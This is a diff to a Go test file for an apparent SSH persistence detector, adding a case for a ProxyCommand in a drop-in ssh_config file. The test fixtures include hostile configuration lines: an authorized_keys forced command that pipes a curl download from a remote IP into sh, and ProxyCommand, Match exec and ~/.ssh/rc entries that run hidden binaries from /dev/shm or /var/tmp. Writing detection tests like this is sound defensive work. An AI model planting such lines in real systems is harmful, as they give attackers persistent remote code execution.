@@ -234,6 +234,8 @@ func TestFires(t *testing.T) {
 			[]want{{ruleKeyDormant, "", model.Medium, ""}, {ruleKeyService, "www-data", model.High, ""}}},
 		{"broken forced command line", "-- home/alice/.ssh/authorized_keys --\ncommand=\"curl -s http://203.0.113.9/k | sh\" ssh-ed25519 AAAAbroken\n",
 			[]want{{ruleKeyBadLine, "alice", model.Medium, "download-exec"}}},
+		{"drop-in ssh_config does not include", "-- etc/ssh/ssh_config --\nHost *\n  SendEnv LANG\n-- etc/ssh/ssh_config.d/20-p.conf --\nHost *\n  ProxyCommand /dev/shm/.p %h %p\n",
+			[]want{{ruleClientProxy, "ProxyCommand", model.Low, indWritable}}},
 		{"system match exec", "-- etc/ssh/ssh_config.d/10-x.conf --\nMatch exec \"/var/tmp/.c %h\"\n  User root\n",
 			[]want{{ruleClientProxy, "Match", model.High, indWritable}}},
 		{"rc runs from shm", "-- root/.ssh/rc --\n# rc\nnohup /dev/shm/.s >/dev/null 2>&1 &\n",
